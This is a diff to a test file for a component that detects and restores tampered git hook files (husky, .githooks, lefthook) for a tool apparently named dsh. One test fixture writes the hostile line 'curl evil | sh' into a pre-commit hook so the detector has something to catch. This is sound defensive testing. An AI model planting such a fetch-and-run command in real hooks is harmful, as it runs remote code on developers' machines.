@@ -40,7 +40,7 @@ describe('hook files', () => {
     writeFileSync(t.path('b/.husky/pre-commit'), 'curl evil | sh\n')
     writeFileSync(t.path('b/.husky/_/h'), '#!/bin/sh\n. h\n')
     writeFileSync(t.path('c/.husky/pre-commit'), 'not run: c has no hooks path\n')
-    const found = hooks.check(() => false)
+    const found = hooks.check()
     expect(found.map((item) => `${item.kind} ${item.path.slice(t.root.length + 1)}`).toSorted()).toEqual(['changed a/.githooks/pre-commit', 'changed a/.pre-commit-config.yaml', 'changed b/.husky/pre-commit', 'created a/.githooks/post-merge', 'created a/lefthook.yml'])
     for (const item of found) if (item.kind === 'changed') hooks.restore(item.path)
     expect(readFileSync(t.path('a/.githooks/pre-commit'), 'utf8')).toBe('#!/bin/sh\nnpm test\n')
@@ -49,16 +49,20 @@ describe('hook files', () => {
     expect(readFileSync(t.path('b/.husky/pre-commit'), 'utf8')).toBe('npm test\n')
   })
 
-  it('takes dsh’s own write as the new copy', async () => {
+  it('takes dsh’s own write as the new copy, for that change only', async () => {
     tree = await tempTree({ 'a/.githooks/pre-commit': 'old\n' })
     const t = tree
     git('init', '-q', t.path('a'))
     git('-C', t.path('a'), 'config', 'core.hooksPath', '.githooks')
     const hooks = new HookFiles()
     hooks.observe([{ worktree: t.path('a'), gitDir: t.path('a/.git') }], [t.root])
+    hooks.allow(t.path('a/.githooks/pre-commit'))
     writeFileSync(t.path('a/.githooks/pre-commit'), 'written by the write tool\n')
     mkdirSync(t.path('a/.githooks/more'))
-    expect(hooks.check((path) => path === t.path('a/.githooks/pre-commit'))).toEqual([{ kind: 'created', path: t.path('a/.githooks/more') }])
-    expect(hooks.check(() => false).map((item) => item.kind)).toEqual(['created'])
+    expect(hooks.check()).toEqual([{ kind: 'created', path: t.path('a/.githooks/more') }])
+    writeFileSync(t.path('a/.githooks/pre-commit'), 'then changed by the shell\n')
+    expect(hooks.check().map((item) => `${item.kind} ${item.path.slice(t.root.length + 1)}`)).toEqual(['changed a/.githooks/pre-commit', 'created a/.githooks/more'])
+    hooks.restore(t.path('a/.githooks/pre-commit'))
+    expect(readFileSync(t.path('a/.githooks/pre-commit'), 'utf8')).toBe('written by the write tool\n')
   })
 })
